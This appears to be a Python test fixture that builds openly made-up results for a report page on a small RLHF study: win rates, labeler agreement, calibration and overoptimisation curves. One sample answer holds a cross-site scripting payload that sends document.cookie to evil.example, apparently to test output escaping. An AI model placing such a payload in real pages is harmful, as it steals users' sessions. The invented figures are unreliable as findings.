"""Made-up numbers to look at the page with. They were not measured by anyone."""

import numpy as np

from biddable.measure.agreed import Agreed, Alone
from biddable.measure.agreement import Agreement
from biddable.measure.cost import Cost, Work
from biddable.measure.curves import Curve
from biddable.measure.interval import Interval
from biddable.measure.overoptimised import Followed, Overoptimised, Way, overoptimised
from biddable.measure.overoptimised import curve as gain
from biddable.measure.results import Counts, Gate, ReportData, Results, Sample, Source
from biddable.measure.reward import Bin, Calibration, Folds
from biddable.measure.tax import Repair, TaskScores

MODELS = ("base", "sft", "ppo", "ppo_ptx")


def about(value: float, half: float = 0.03, n: int = 600, top: float = 1.0) -> Interval:
    return Interval(value=value, low=max(0.0, value - half), high=min(top, value + half), n=n)


def agreed(value: float, half: float = 0.02, word: str = "above chance") -> Agreement:
    return Agreement(
        **about(value, half).model_dump(),
        chance=0.51,
        kappa=(value - 0.51) / 0.49,
        word=word,
        ties="half",
        prompts=120,
    )


def some_agreed(who: str, value: float) -> Agreed:
    more = {name: about(value - 0.3, 0.05) for name in ("alpha", "fleiss", "tau", "w")}
    return Agreed(
        who=who, half=agreed(value), strict=agreed(value - 0.1), decided=None, others=about(value, 0.06), **more
    )


def rates(*values: float, half: float = 0.02) -> dict[str, Interval]:
    return {model: about(value, half) for model, value in zip(MODELS, values, strict=True)}


def some_curve(model: str, seed: int) -> Curve:
    rng = np.random.default_rng(seed)
    t = np.arange(60) / 60
    proxy = -0.3 + 1.1 * (1 - np.exp(-3 * t)) + 0.06 * rng.normal(size=60)
    kl = 6 * t + 0.15 * rng.normal(size=60) ** 2
    steps = tuple(range(1, 61))
    return Curve(model=model, run=f"{model}-0", step=steps, proxy=tuple(proxy), kl=tuple(kl))


def some_way() -> Overoptimised:
    """A policy whose gold peaks half-way while the proxy rises."""
    rng, d_K = np.random.default_rng(0), np.array([0.5, 1.0, 2.0, 3.0])
    luck_PK = 0.3 * rng.standard_normal((2, 90, 4))
    gold_PK, proxy_PK = gain("policy", 1.0, 0.9, d_K) + luck_PK[0], 0.5 * d_K + luck_PK[1]
    prompts = tuple(f"prompt-{i}" for i in range(90))
    return overoptimised(Way("policy", (10, 20, 30, 40), prompts, np.tile(d_K**2, (90, 1)), proxy_PK, gold_PK))


def some_tasks() -> dict[str, TaskScores]:
    table = {"facts": (0.82, 0.8, 0.71, 0.79), "reading": (0.95, 0.93, 0.9, 0.94), "cloze": (0.7, 0.69, 0.64, 0.68)}
    table |= {"translation": (0.6, 0.55, 0.45, 0.57), "few_shot": (0.52, 0.5, 0.47, 0.5)}
    return {
        model: TaskScores(
            tasks={task: about(values[place], 0.045, 200) for task, values in table.items()},
            mean=about(sum(values[place] for values in table.values()) / len(table), 0.018, 1000),
        )
        for place, model in enumerate(MODELS)
    }


def results(agreement: Agreement | None = None) -> Results:
    wins = {"sft_vs_base": about(0.91), "ppo_vs_sft": about(0.68), "ppo_ptx_vs_sft": about(0.67)}
    people = {"sft_vs_base": about(0.84, 0.05), "ppo_vs_sft": about(0.61, 0.05), "ppo_ptx_vs_sft": about(0.62, 0.05)}
    return Results(
        seconds=412.3,
        models={model: f"runs/{model}/model" for model in (*MODELS, "reward")},
        gold_win_rate=wins | {"ppo_ptx_vs_base": about(0.94, 0.02)},
        human_win_rate=people | {"ppo_ptx_vs_base": about(0.88, 0.04)},
        agreement=agreement or agreed(0.731),
        agreements=(some_agreed("training labelers", 0.731), some_agreed("held-out labelers", 0.744)),
        alone={"held-out labelers": tuple(Alone(prompts=40, agrees=about(v, 0.05), skill=None) for v in (0.6, 0.75))},
        reward_accuracy={"train_labelers": about(0.712, 0.015, 5400), "held_out_labelers": about(0.689, 0.02, 2100)},
        tax={model: scores.mean for model, scores in some_tasks().items()},
        hallucination=rates(0.41, 0.14, 0.17, 0.16),
        toxicity=rates(0.06, 0.012, 0.0, 0.004, half=0.012),
        tax_paid={
            "sft": Interval(value=0.024, low=-0.003, high=0.051, n=1000),
            "ppo": Interval(value=0.084, low=0.06, high=0.108, n=1000),
            "ppo_ptx": Interval(value=0.022, low=0.002, high=0.042, n=1000),
        },
        followed=(Followed(run="ppo", proxy="reward", gold="reward-2", ways=(some_way(),)),),
        cost=some_cost(),
    )


def some_cost(**changes) -> Cost:
    """2,000 demonstrations in 100 hours, 3,100 rankings in 155, 2,400 verdicts of which 1,200 tell 20 hours."""
    work = {
        "demonstrations": Work(labels=2000, timed=2000, hours=100.0),
        "rankings": Work(labels=3100, timed=3100, hours=155.0),
        "verdicts": Work(labels=2400, timed=1200, hours=20.0),
    }
    return Cost(**({"work": work, "labelers": {"held_out": 12, "training": 28}} | changes))


def some_folds() -> Folds:
    own, other = (about(0.724, 0.012, 4000),) * 5, (about(0.66, 0.014, 4000), *(about(0.69, 0.014, 4000),) * 4)
    return Folds(
        own=own, held_out=other, own_mean=about(0.724, 0.006), held_out_mean=about(0.684, 0.008),
        own_error=0.0, held_out_error=0.006,
    )  # fmt: skip


def some_samples() -> tuple[Sample, ...]:
    return (
        Sample(
            prompt="Name three animals that live in the village, in one line.",
            use_case="brainstorming",
            answers={
                "base": "Name three birds that live by the mill.\nName the colour of the fox.\nName three",
                "sft": "The goat, the fox and the hen.",
                "ppo": "The goat, the fox, the hen, the goat, the fox, the hen, the goat and the fox.",
                "ppo_ptx": "The goat, the fox and the hen live in the village.",
            },
            worth={"base": 0.2, "sft": 2.9, "ppo": 1.8, "ppo_ptx": 3.4},
        ),
        Sample(
            prompt="<script>alert('prompt')</script> Translate to the second dialect: the goat sleeps.",
            use_case="other",
            answers={
                "base": "<script>fetch('https://evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>",
                "sft": "",
                "ppo": "na goato sleepo & \"more\" 'quotes' \u202edlrow\x00",
                "ppo_ptx": "a" * 300,
            },
        ),
    )


def made(world: str = "hamlet", **changes) -> ReportData:
    road = (
        Source(
            run="ppo-0",
            folder="runs/ppo",
            inputs={"prompts": "ab" * 32, "reward": "cd" * 32},
            files={"prompts": "prompts-1.jsonl", "reward": "runs/reward/model"},
        ),
    )
    also = (Source(run="ppo_ptx-0", folder="runs/ppo_ptx", inputs={"prompts": "ab" * 32}),)
    figures = ("preference", "labels", "calibration", "training", "followed", "behaviour", "tax", "samples")
    fields = {
        "results": results(),
        "world": world,
        "made": "21 November 2026",
        "seed": 7,
        "version": "0.1.0",
        "counts": Counts(
            prompts=6200, labelers=40, demonstrations=2000, rankings=3100, verdicts=2400, parameters=1_900_000
        ),
        "reward_ceiling": about(0.752, 0.015),
        "calibration": Calibration(
            bins=tuple(
                Bin(predicted=p, observed=about(p - d, 0.03)) for p, d in ((0.55, 0.01), (0.65, 0.02), (0.75, 0.05))
            ),
            log_loss=Interval(value=0.58, low=0.56, high=0.6, n=5400),
            error=0.027,
        ),
        "tasks": some_tasks(),
        "repair": Repair(
            lost=Interval(value=0.084, low=0.06, high=0.108, n=1000),
            regained=Interval(value=0.062, low=0.041, high=0.083, n=1000),
            share=Interval(value=0.74, low=0.55, high=0.93, n=1000),
        ),
        "rates": {
            "hallucination": rates(0.41, 0.14, 0.17, 0.16),
            "toxicity": rates(0.06, 0.012, 0.0, 0.004, half=0.012),
            "constraint": rates(0.22, 0.71, 0.8, 0.79),
            "refusal": rates(0.0, 0.05, 0.06, 0.055),
        },
        "curves": (some_curve("ppo", 1), some_curve("ppo_ptx", 2)),
        "samples": some_samples(),
        "gates": (
            Gate(
                question="Does the base copy, match and count?",
                needed="at least 95 % of held-out pages",
                found="98.1 %",
                passed=True,
            ),
            Gate(
                question="Can the reward model learn 50 rankings by heart?",
                needed="at least 99 % of their pairs",
                found="100 %",
                passed=True,
            ),
            Gate(
                question="Does best-of-16 by the reward model beat SFT?",
                needed="an interval above 55 %",
                found="71 % (66–76)",
                passed=True,
            ),
        ),
        "sources": dict.fromkeys(figures, road + also),
    }
    return ReportData(**(fields | changes))
